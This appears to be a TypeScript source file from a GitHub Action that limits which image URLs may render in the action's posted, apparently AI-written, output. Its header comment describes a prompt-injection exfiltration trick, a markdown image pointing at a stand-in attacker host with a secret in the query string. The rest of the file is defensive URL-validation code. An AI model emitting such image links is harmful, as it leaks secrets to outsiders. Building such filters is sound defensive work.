/**
 * Which image URLs may render in what the action posts. GitHub renders an image by having the reader's browser (or
 * its camo proxy) fetch the URL, so an image URL is a channel out: a prompt-injected answer holding
 * `![x](https://attacker.example/?d=<secret>)` sends the data there when someone opens the page. Only URLs whose
 * host nobody outside GitHub and the repository controls may render: GitHub's uploaded attachments and the
 * repository's own files, plus the prefixes the workflow lists in `allowed_image_urls`.
 */

export type ImagePolicy = (url: string) => boolean;

interface Prefix {
  origin: string;
  path: string;
  /** GitHub's own paths ignore case (owner/repo); a listed host's may not (`/alice/` is not `/ALICE/`). */
  anyCase: boolean;
}

function prefixOf(url: string, what: string): Prefix {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    throw new Error(`${what}: "${url}" is not a URL (give https://host/path/ prefixes, comma-separated)`);
  }
  if (parsed.protocol !== 'https:') throw new Error(`${what}: "${url}" is not https`);
  if (parsed.username || parsed.password || parsed.search || parsed.hash) throw new Error(`${what}: "${url}" must be a plain prefix (no user, query or fragment)`);
  return { origin: parsed.origin, path: parsed.pathname, anyCase: false };
}

/** The prefixes in `allowed_image_urls` (comma, space or newline separated), each checked. */
export function parseImagePrefixes(value: string): string[] {
  const prefixes = value.split(/[\s,]+/).filter(Boolean);
  for (const prefix of prefixes) prefixOf(prefix, 'allowed_image_urls');
  return prefixes;
}

export interface PolicyOptions {
  /** GITHUB_SERVER_URL: https://github.com, or a GitHub Enterprise Server. */
  serverUrl: string;
  /** GITHUB_REPOSITORY: owner/name. */
  repository: string;
  extra: string[];
}

export function imagePolicy(options: PolicyOptions): ImagePolicy {
  const server = options.serverUrl.replace(/\/+$/, '') || 'https://github.com';
  const repo = options.repository.replace(/^\/+|\/+$/g, '');
  const urls = [`${server}/user-attachments/`, 'https://github.com/user-attachments/', 'https://user-images.githubusercontent.com/', 'https://private-user-images.githubusercontent.com/'];
  if (/^[^/]+\/[^/]+$/.test(repo)) urls.push(`${server}/${repo}/`, `https://raw.githubusercontent.com/${repo}/`);
  const github = urls.flatMap((url) => (url.startsWith('https:') ? [{ ...prefixOf(url, 'GITHUB_SERVER_URL'), anyCase: true }] : []));
  const prefixes = [...github, ...options.extra.map((url) => prefixOf(url, 'allowed_image_urls'))];
  // A relative URL resolves against the page it is on, which is on the server: never another host.
  const base = `${server}/${repo}/issues/`;
  return (raw) => {
    // `https:host` is relative to an https page for a browser, but another URL reader may take the host from it.
    const bare = raw.replace(/[\t\n\r]/g, '').trim();
    if (/^[a-z][a-z0-9+.-]*:/i.test(bare) && !/^https:[/\\]{2}/i.test(bare)) return false;
    let url: URL;
    try {
      url = new URL(raw, base);
    } catch {
      return false;
    }
    if (url.protocol !== 'https:' || url.username || url.password) return false;
    // A server that decodes `%2F`/`%5C`/`%2E` or reads `..;` could climb out of an allowed prefix: never vouched for.
    if (/%(?:2f|5c|2e|00)|\.\.|;/i.test(url.pathname)) return false;
    const match = (path: string, prefix: string) => path.startsWith(prefix) || `${path}/` === prefix;
    return prefixes.some((p) => url.origin === p.origin && (p.anyCase ? match(url.pathname.toLowerCase(), p.path.toLowerCase()) : match(url.pathname, p.path)));
  };
}
